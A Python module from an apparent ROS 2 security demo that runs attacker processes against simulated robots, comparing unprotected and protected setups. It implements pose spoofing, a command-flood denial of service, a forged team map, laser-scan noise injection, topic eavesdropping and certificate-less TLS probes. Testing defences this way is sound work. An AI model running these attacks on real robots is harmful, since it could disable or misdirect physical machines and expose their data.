"""The attackers of ``cryptoros demo --ros 2``: each a separate rclpy process.

``python -m cryptoros.demo.ros2_attackers CONFIG.json``, run by the ROS 2 venv's python
with ``ROS_DOMAIN_ID`` set to where the attacker sits:

* plain mode: the robots' shared domain (the network: every DDS participant on it
  reaches every robot);
* protected mode, a *stranger*: the same network domain, now empty (each robot's DDS is
  localhost-only on its own domain), plus the only door left, the interceptors' public
  TLS ports, tried without a certificate;
* protected mode, an *insider*: the domain of another robot (a compromised node on that
  robot) whose manager has no grant for what it attacks.

The attacks mirror :mod:`cryptoros.demo.attackers` (seed papers 000 and 001) with the
same report keys; success is judged from the victims' side by :mod:`cryptoros.demo.run`.
ROS 1's XML-RPC attacks (``shutdown``, name ``hijack``) have no ROS 2 counterpart and
``map-erase`` needs a man in the middle *inside* the victim's own domain, which a
per-robot domain does not guard (its DDS is the robot's trust zone, see docs/ros2.md).
"""

from __future__ import annotations

import contextlib
import importlib
import json
import signal
import socket
import ssl
import sys
import threading
import time
from pathlib import Path
from typing import Any, Callable

import numpy as np
import rclpy
from geometry_msgs.msg import Point, Pose, PoseStamped, Quaternion, Twist
from rclpy.executors import SingleThreadedExecutor
from rclpy.serialization import deserialize_message, serialize_message
from rclpy.signals import SignalHandlerOptions
from sensor_msgs.msg import LaserScan
from std_msgs.msg import Header, UInt8MultiArray

from cryptoros.attack.lib import digest
from cryptoros.demo.ros2_robot import RELIABLE, spin_quietly, unwrap_packet, wrap_packet
from cryptoros.sim import packets as P

NODE_NAMES = {"spoof-pose": "vicon_bridge", "scan-noise": "scan_attacker", "cmd-flood": "flooder", "false-map": "mal0",
              "eavesdrop": "eavesdropper"}
DOOR_TIMEOUT = 3.0


def try_doors(doors: list[list[Any]]) -> list[dict[str, str]]:
    """A TLS client without a certificate at each interceptor's public port."""
    out = []
    for host, port in doors:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        outcome = "accepted"
        try:
            with socket.create_connection((host, int(port)), timeout=DOOR_TIMEOUT) as raw:
                with ctx.wrap_socket(raw) as tls:
                    tls.sendall(b'{"purpose": "ros2"}\n')  # a would-be preamble
                    if not tls.recv(1024):
                        outcome = "closed without a word"
        except (ssl.SSLError, ConnectionError, OSError) as exc:
            outcome = f"refused ({type(exc).__name__}: {exc})"[:160]
        out.append({"door": f"{host}:{port}", "outcome": outcome})
    return out


class Attack:
    def __init__(self, cfg: dict[str, Any], stop: threading.Event) -> None:
        self.cfg = cfg
        self.stop = stop
        self.kind = cfg["kind"]
        self.target = cfg.get("target")
        self.W, self.H = int(cfg["width"]), int(cfg["height"])
        self.rng = np.random.default_rng(cfg.get("seed", 7))
        self.node = rclpy.create_node(NODE_NAMES[self.kind], enable_rosout=False, start_parameter_services=False)
        self.lock = threading.Lock()
        self.fired = threading.Event()
        self.rep: dict[str, Any] = {"verb": self.kind, "domain": cfg.get("domain"), "node": f"/{NODE_NAMES[self.kind]}",
                                    "sent": 0, "subscribers_max": 0}

    def until_stopped(self, rate: float, publisher: Any, make: Any) -> None:
        """Publish ``make(i)`` (serialized) at ``rate`` Hz until the duration ends."""
        end = time.monotonic() + float(self.cfg["duration"])
        period, i = 1.0 / rate, 0
        next_t = time.monotonic()
        while not self.stop.is_set() and time.monotonic() < end:
            publisher.publish(make(i))
            i += 1
            self.rep["sent"] = i
            self.rep["subscribers_max"] = max(self.rep["subscribers_max"], publisher.get_subscription_count())
            next_t += period
            delay = next_t - time.monotonic()
            if delay > 0:
                self.stop.wait(delay)
            else:
                next_t = time.monotonic()

    def wait(self) -> None:
        self.stop.wait(float(self.cfg["duration"]))

    def arm(self, victims_matched: Callable[[], bool]) -> None:
        """Report armed (``cfg["armed"]``) once the attack's endpoints exist and, where the
        victims share its domain (``cfg["expect_victims"]``), DDS has matched them with
        the victims' (bounded by ``cfg["arm_timeout"]``); then wait for ``cfg["fire"]``.
        Without those keys the attack fires at once."""
        deadline = time.monotonic() + float(self.cfg.get("arm_timeout", 60.0))
        matched = victims_matched()
        while self.cfg.get("expect_victims") and not matched and not self.stop.is_set() and time.monotonic() < deadline:
            self.stop.wait(0.05)
            matched = victims_matched()
        self.rep["victims_matched_when_armed"] = matched
        if self.cfg.get("armed"):
            armed = Path(self.cfg["armed"])
            tmp = armed.with_suffix(".tmp")
            tmp.write_text(json.dumps({"matched": matched}))
            tmp.replace(armed)
        if self.cfg.get("fire"):
            fire = Path(self.cfg["fire"])
            while not fire.exists() and not self.stop.is_set():
                self.stop.wait(0.02)
        self.fired.set()

    def run(self) -> None:
        t = self.target
        if self.kind == "spoof-pose":  # the robot "teleports all over the map" (seed 001)
            pub = self.node.create_publisher(PoseStamped, f"/{t}/pose", 10)
            self.arm(lambda: pub.get_subscription_count() > 0)
            self.until_stopped(200.0, pub, lambda i: serialize_message(PoseStamped(
                header=Header(frame_id="map"),
                pose=Pose(position=Point(x=float(self.rng.uniform(0, self.W * 0.2)), y=float(self.rng.uniform(0, self.H * 0.2))),
                          orientation=Quaternion(w=1.0)))))
        elif self.kind == "cmd-flood":  # seed 001's denial of service: stop commands at 1 kHz
            pub = self.node.create_publisher(Twist, f"/{t}/cmd_vel", 10)
            stop_cmd = serialize_message(Twist())
            self.arm(lambda: pub.get_subscription_count() > 0)
            self.until_stopped(1000.0, pub, lambda i: stop_cmd)
        elif self.kind == "false-map":  # seed 000's impersonation: every cell free, exploration complete
            pub = self.node.create_publisher(UInt8MultiArray, "/team/map", RELIABLE)
            self.arm(lambda: pub.get_subscription_count() > 0)
            t0 = time.time()
            W, H = self.W, self.H
            self.until_stopped(2.0, pub, lambda i: wrap_packet(P.encode(P.make(
                P.MAP, source="mal0", seq=i + 1, timestamp=(time.time() - t0) * 100.0, position=P.Point(W * 0.1, H * 0.1),
                goal=P.Point(W * 0.1, H * 0.1), exploration_complete=True, origin_x=0, origin_y=0, width=W, height=H,
                data=np.zeros(W * H, dtype=np.int8)), P.MAP)))
        elif self.kind == "scan-noise":  # seed 001: the laser scan read and republished as noise
            self._scan_noise(f"/{t}/scan")
        elif self.kind == "eavesdrop":
            self._eavesdrop()
        else:
            raise SystemExit(f"unknown ROS 2 attack {self.kind}")

    def _scan_noise(self, topic: str) -> None:
        pub = self.node.create_publisher(LaserScan, topic, 10)
        own: set[str] = set()
        self.rep.update(read=0)

        def alter(data: bytes) -> None:
            if not self.fired.is_set() or digest(data) in own:
                return  # our own noise coming back
            self.rep["read"] += 1
            m = deserialize_message(data, LaserScan)
            m.ranges = [float(x) for x in self.rng.uniform(0.0, 3.5, len(m.ranges))]
            out = serialize_message(m)
            own.add(digest(out))
            pub.publish(out)
            self.rep["sent"] += 1

        sub = self.node.create_subscription(LaserScan, topic, alter, 10, raw=True)
        self.arm(lambda: pub.get_subscription_count() > 0 and sub.get_publisher_count() > 0)
        self.wait()

    def _eavesdrop(self) -> None:
        team = set(self.cfg["team"])
        W = self.W
        topics: dict[str, dict[str, Any]] = {}
        positions: dict[str, list[float]] = {}
        cells: set[int] = set()
        digests: set[str] = set()  # of what was read: the judge counts those the robots published
        self.rep.update(messages=0, bytes=0, topics=topics)

        def seen(topic: str, data: bytes) -> None:
            with self.lock:
                self.rep["messages"] += 1
                self.rep["bytes"] += len(data)
                topics[topic]["messages"] += 1
            with contextlib.suppress(Exception):
                digests.add(digest(unwrap_packet(data) if topic.startswith("/team/") else data))
                if topic == "/team/hello":
                    h = P.decode(unwrap_packet(data), P.HELLO)
                    positions[h.source] = [round(h.position.x, 2), round(h.position.y, 2)]
                elif topic == "/team/map":
                    u = P.decode(unwrap_packet(data), P.MAP)
                    if u.source in team:
                        d = np.asarray(u.data).reshape(int(u.height), int(u.width))
                        rr, cc = np.nonzero(d != -1)
                        cells.update(((rr + int(u.origin_y)) * W + (cc + int(u.origin_x))).tolist())

        def robot_topics() -> list[tuple[str, list[str]]]:
            return [(name, types) for name, types in self.node.get_topic_names_and_types()
                    if name not in ("/rosout", "/parameter_events") and len(types) == 1]

        self.arm(lambda: bool(robot_topics()))
        end = time.monotonic() + float(self.cfg["duration"])
        while not self.stop.is_set() and time.monotonic() < end:
            for name, types in robot_topics():
                if name in topics:
                    continue
                pkg, kind, cls_name = types[0].split("/")
                with contextlib.suppress(ImportError, AttributeError):
                    cls = getattr(importlib.import_module(f"{pkg}.{kind}"), cls_name)
                    topics[name] = {"type": types[0], "messages": 0}
                    self.node.create_subscription(cls, name, lambda d, n=name: seen(n, d),
                                                  RELIABLE if name.startswith("/team/") else 10, raw=True)
            self.stop.wait(0.5)
        self.rep["digests"] = sorted(digests)
        self.rep["positions_read"] = positions
        self.rep["map_cells_read"] = len(cells)
        self.rep["map_share_read"] = round(len(cells) / float(self.W * self.H), 4)


def main() -> None:
    cfg = json.loads(Path(sys.argv[1]).read_text())
    out = Path(cfg["report"])
    stop = threading.Event()
    for sig in (signal.SIGTERM, signal.SIGINT):
        signal.signal(sig, lambda *_: stop.set())
    started = time.time()
    rep: dict[str, Any] = {}
    rclpy.init(signal_handler_options=SignalHandlerOptions.NO)
    executor = SingleThreadedExecutor()
    try:
        attack = Attack(cfg, stop)
        rep = attack.rep
        executor.add_node(attack.node)
        threading.Thread(target=spin_quietly, args=(executor,), name="rclpy", daemon=True).start()
        if cfg.get("doors"):
            rep["doors"] = try_doors(cfg["doors"])
            refused = [d for d in rep["doors"] if d["outcome"] != "accepted"]
            if refused:
                rep["refused"] = f"{len(refused)}/{len(rep['doors'])} interceptors refused a client without a certificate"
        attack.run()
    except Exception as exc:
        rep["error"] = f"{type(exc).__name__}: {exc}"
    finally:
        executor.shutdown(timeout_sec=2)
        with contextlib.suppress(Exception):
            rclpy.try_shutdown()
    rep["kind"] = cfg["kind"]
    rep["wall_s"] = round(time.time() - started, 2)
    tmp = out.with_suffix(".tmp")
    tmp.write_text(json.dumps(rep, default=str))
    tmp.replace(out)


if __name__ == "__main__":
    main()
